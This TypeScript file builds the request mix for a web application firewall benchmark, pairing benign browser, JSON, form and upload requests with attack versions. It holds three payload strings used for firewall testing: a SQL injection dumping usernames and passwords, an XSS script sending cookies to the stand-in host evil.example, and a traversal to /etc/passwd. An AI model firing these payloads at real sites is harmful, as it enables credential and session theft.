// The request mix of the WAF benchmark: realistic benign shapes and attacks of each shape,
// built deterministically (the same bytes every run), as raw HTTP/1.1 requests.

export interface MixRequest {
  readonly name: string;
  readonly attack: boolean;
  readonly method: string;
  readonly target: string;
  readonly headers: ReadonlyArray<readonly [string, string]>;
  readonly body: string;
}

const BROWSER: ReadonlyArray<readonly [string, string]> = [
  ['Host', 'shop.example.com'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36'],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8'],
  ['Accept-Language', 'en-US,en;q=0.9'],
  ['Accept-Encoding', 'gzip, deflate, br'],
  ['Cookie', 'session=3f9a1c2b7d4e5f60718293a4b5c6d7e8; theme=dark; consent=1'],
  ['Referer', 'https://shop.example.com/catalog'],
];

/** Deterministic pseudo-random text for bodies. */
function words(n: number, seed: number): string[] {
  const vocab = ['alpha', 'bravo', 'delta', 'order', 'item', 'price', 'blue', 'large', 'account', 'transfer', 'notes', 'city', 'street', 'amount', 'euro', 'status', 'shipped', 'pending'];
  const out: string[] = [];
  let x = seed;
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    out.push(vocab[x % vocab.length]!);
  }
  return out;
}

function jsonBody(bytes: number, seed: number): string {
  const items: Array<Record<string, unknown>> = [];
  let i = 0;
  let text = '';
  while (text.length < bytes) {
    // About 250 bytes and 6 values per item: a 20 KB body has some 500 arguments, under
    // SecArgumentsLimit (1000), as typical API payloads are.
    const w = words(30, seed + i);
    items.push({ id: 1000 + i, sku: `SKU-${(seed * 31 + i) % 99991}`, name: w.slice(0, 3).join(' '), qty: (i % 5) + 1, price: ((i * 137) % 10000) / 100, note: `${w.join(' ')} ${i}` });
    i++;
    text = JSON.stringify({ customer: { id: 42, email: 'jane.doe@example.com', country: 'DE' }, currency: 'EUR', items });
  }
  return text;
}

function form(fields: Record<string, string>): string {
  return Object.entries(fields).map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&');
}

function multipart(boundary: string, fields: Record<string, string>, file: { name: string; filename: string; content: string }): string {
  let out = '';
  for (const [k, v] of Object.entries(fields)) out += `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`;
  out += `--${boundary}\r\nContent-Disposition: form-data; name="${file.name}"; filename="${file.filename}"\r\nContent-Type: text/plain\r\n\r\n${file.content}\r\n`;
  return `${out}--${boundary}--\r\n`;
}

const SQLI = "1' UNION SELECT username, password FROM users--";
const XSS = '<script>document.location="https://evil.example/?c="+document.cookie</script>';
const TRAVERSAL = '../../../../etc/passwd';

export function wafMix(): MixRequest[] {
  const json = (name: string, body: string, attack = false): MixRequest => ({
    name,
    attack,
    method: 'POST',
    target: '/api/orders',
    headers: [...BROWSER.filter(([k]) => k !== 'Cookie'), ['Content-Type', 'application/json'], ['Authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl']],
    body,
  });
  const query = (attackValue?: string): string => {
    const params = ['page=2', 'sort=price', 'order=asc', 'size=42', 'color=navy', 'brand=acme', 'min=10', 'max=100', 'in_stock=1', 'q=blue+running+shoes'];
    if (attackValue !== undefined) params[9] = `q=${encodeURIComponent(attackValue)}`;
    return `/products/search?${params.join('&')}`;
  };
  const formFields = { name: 'Jane Doe', email: 'jane.doe@example.com', street: 'Hauptstrasse 5', city: 'Berlin', zip: '10115', message: words(30, 7).join(' ') };
  const formReq = (fields: Record<string, string>, attack = false): MixRequest => ({
    name: attack ? 'form-attack' : 'form',
    attack,
    method: 'POST',
    target: '/contact',
    headers: [...BROWSER, ['Content-Type', 'application/x-www-form-urlencoded']],
    body: form(fields),
  });
  const boundary = '----portcullisbench7d3a';
  const upload = (content: string, attack = false): MixRequest => ({
    name: attack ? 'multipart-attack' : 'multipart',
    attack,
    method: 'POST',
    target: '/upload',
    headers: [...BROWSER, ['Content-Type', `multipart/form-data; boundary=${boundary}`]],
    body: multipart(boundary, { title: 'Quarterly report', folder: 'finance' }, { name: 'file', filename: 'report.txt', content }),
  });
  const json2k = jsonBody(2048, 3);
  const json20k = jsonBody(20480, 5);
  return [
    { name: 'get-plain', attack: false, method: 'GET', target: '/', headers: BROWSER, body: '' },
    { name: 'get-10-args', attack: false, method: 'GET', target: query(), headers: BROWSER, body: '' },
    json('json-2k', json2k),
    json('json-20k', json20k),
    formReq(formFields),
    upload(words(400, 11).join(' ')),
    { name: 'get-sqli', attack: true, method: 'GET', target: query(SQLI), headers: BROWSER, body: '' },
    { name: 'get-xss', attack: true, method: 'GET', target: query(XSS), headers: BROWSER, body: '' },
    { name: 'get-traversal', attack: true, method: 'GET', target: `/download?file=${encodeURIComponent(TRAVERSAL)}`, headers: BROWSER, body: '' },
    json('json-sqli', JSON.stringify({ ...JSON.parse(json2k), coupon: SQLI }), true),
    formReq({ ...formFields, message: XSS }, true),
    upload(`see ${TRAVERSAL} and ${SQLI}`, true),
  ];
}

/**
 * A request of the mix with its varying parts varied, as traffic varies from one request to the
 * next: the digits of the query, of the session cookie and of a JSON or urlencoded body go
 * through a permutation of 1-9 drawn per request (`perm[d]` replaces digit d; 0 stays, so no
 * number of a JSON body gains a leading zero and the body stays valid; percent-escapes are
 * left alone). Lengths stay the
 * same (Content-Length holds), names and words stay (as field names and enumerations repeat),
 * and an engine that remembers values across requests does not find the same session id, price
 * or free text every time. wrk applies the same substitution in its script (mixScript).
 */
export function varied(r: MixRequest, perm: readonly string[]): MixRequest {
  // Percent-escapes are left as they are: "%20" stays a space, and an attack stays the attack.
  const digits = (s: string): string => s.replace(/%[0-9A-Fa-f]{2}|[0-9]/g, (d) => (d.length === 3 ? d : perm[d.charCodeAt(0) - 48]!));
  const q = r.target.indexOf('?');
  const target = q === -1 ? r.target : r.target.slice(0, q) + digits(r.target.slice(q));
  const headers = r.headers.map(([k, v]) => (k === 'Cookie' ? [k, v.replace(/session=[0-9a-f]+/, digits)] as const : [k, v] as const));
  const type = r.headers.find(([k]) => k === 'Content-Type')?.[1] ?? '';
  // A JSON body has no percent-escapes: every digit goes through (wrk then does it with one
  // table-driven gsub, cheap enough not to slow the client down on 20 KB bodies).
  const body = type === 'application/json' ? r.body.replace(/[0-9]/g, (d) => perm[d.charCodeAt(0) - 48]!) : type === 'application/x-www-form-urlencoded' ? digits(r.body) : r.body;
  return { ...r, target, headers, body };
}

/** A random permutation of the digits 1-9, 0 fixed (Fisher-Yates over `random`). */
export function digitPermutation(random: () => number): string[] {
  const p = ['0', '1', '2', '3', '4', '5', '6', '7', '8', '9'];
  for (let i = 9; i > 1; i--) {
    const j = 1 + Math.floor(random() * i);
    [p[i], p[j]] = [p[j]!, p[i]!];
  }
  return p;
}

/** The request as bytes (what wrk and the in-process engine both get). */
export function rawRequest(r: MixRequest): string {
  let head = `${r.method} ${r.target} HTTP/1.1\r\n`;
  for (const [k, v] of r.headers) head += `${k}: ${v}\r\n`;
  if (r.body.length > 0 || r.method === 'POST') head += `Content-Length: ${Buffer.byteLength(r.body)}\r\n`;
  return `${head}\r\n${r.body}`;
}
